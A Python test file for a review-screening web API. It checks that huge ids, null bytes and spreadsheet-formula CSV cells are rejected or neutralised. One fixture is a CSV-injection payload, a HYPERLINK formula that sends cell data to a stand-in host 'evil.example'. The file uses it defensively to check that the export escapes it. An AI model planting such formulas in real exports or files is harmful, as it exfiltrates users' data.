"""Bad input is a 4xx with a message on both databases, never a 500, and the connection stays
usable: ids and pages beyond the database's integers, control characters, hostile CSV cells."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import httpx

from tests.web import factories as f
from tests.web.conftest import Env
from tests.web.test_auth import sign_in

Client = Callable[..., httpx.Client]
API = "/api/v1/reviews/micro"


def setup(env: Env, title: str = "Record") -> dict:
    proto = f.protocol()
    env.add_protocol(proto)
    with env.session() as s:
        rev = f.review(s, proto)
        rec = f.record(s, rev, "1", title=title, p_include=0.7)
        out = {"rid": rec.id, "alice": f.user(s, "alice"), "root": f.user(s, "root", "admin")}
        s.commit()
    return out


def test_huge_ids_and_pages_are_refused_with_a_message(env: Env, client_for: Client) -> None:
    w = setup(env)
    api, root = client_for(w["alice"]), client_for(w["root"])
    huge = "99999999999999999999"
    for response in (
        api.get(f"{API}/records/{huge}"),
        api.get(f"{API}/records/{2**31}"),
        api.post(f"{API}/records/{huge}/decisions", json={"decision": "include"}),
        api.post(f"{API}/records/{huge}/skip"),
        root.post(f"{API}/records/{huge}/resolution", json={"decision": "include"}),
        api.get(f"{API}/records", params={"page": "1000000000000000000"}),
        api.get(f"{API}/records", params={"page": "1e20"}),
    ):
        assert response.status_code == 422, (response.request.url, response.text)
        assert response.json()["detail"]
    page = sign_in(client_for(), w["alice"])
    for path in ("/reviews/micro/records?page=1e20", "/reviews/micro/records?page=10000000000"):
        r = page.get(path)
        assert r.status_code == 422 and "page" in r.text
    r = page.get(f"/reviews/micro/records/{huge}")
    assert r.status_code == 422
    # the same connections go on working
    assert api.get(f"{API}/records/{w['rid']}").status_code == 200
    assert page.get("/reviews/micro/records").status_code == 200


def test_control_characters_are_refused_naming_the_field(env: Env, client_for: Client) -> None:
    w = setup(env)
    api, root = client_for(w["alice"]), client_for(w["root"])
    assert api.get(f"{API}/records", params={"q": "psilo\x00cybin"}).status_code == 422
    assert api.get("/api/v1/reviews/mic%00ro").status_code == 422
    api.post(f"{API}/next")
    r = api.post(
        f"{API}/records/{w['rid']}/decisions", json={"decision": "include", "note": "a\x00b"}
    )
    assert r.status_code == 422 and "note" in r.json()["detail"]
    r = root.post("/api/v1/users", json={"name": "eve\x00"})
    assert r.status_code == 422
    page = sign_in(client_for(), w["alice"])
    assert page.get("/reviews/micro/records?q=%00").status_code == 422
    screen = page.get("/reviews/micro/screen")
    token = screen.text.split('name="csrf_token" value="')[1].split('"')[0]
    r = page.post(
        f"/reviews/micro/records/{w['rid']}/decide",
        data={"decision": "include", "note": "x\x00y", "csrf_token": token},
    )
    assert r.status_code == 422 and "note" in r.text
    ok = api.post(f"{API}/records/{w['rid']}/decisions", json={"decision": "include"})
    assert ok.status_code == 201  # nothing was stored by the refused requests, and we go on


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
    env: Env, client_for: Client
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    w = setup(env, title=hostile)
    api = client_for(w["alice"])
    api.post(f"{API}/next")
    api.post(
        f"{API}/records/{w['rid']}/decisions",
        json={"decision": "exclude", "reasons": ["low_dose"], "note": "@SUM(1+1)"},
    )
    rows = list(csv.DictReader(io.StringIO(api.get(f"{API}/export?format=csv").text)))
    assert rows[0]["title"] == "'" + hostile
    assert not any(value.startswith(("=", "+", "-", "@")) for value in rows[0].values())
    raw = api.get(f"{API}/export", params={"format": "csv", "csv_formulas": "keep"}).text
    assert list(csv.DictReader(io.StringIO(raw)))[0]["title"] == hostile
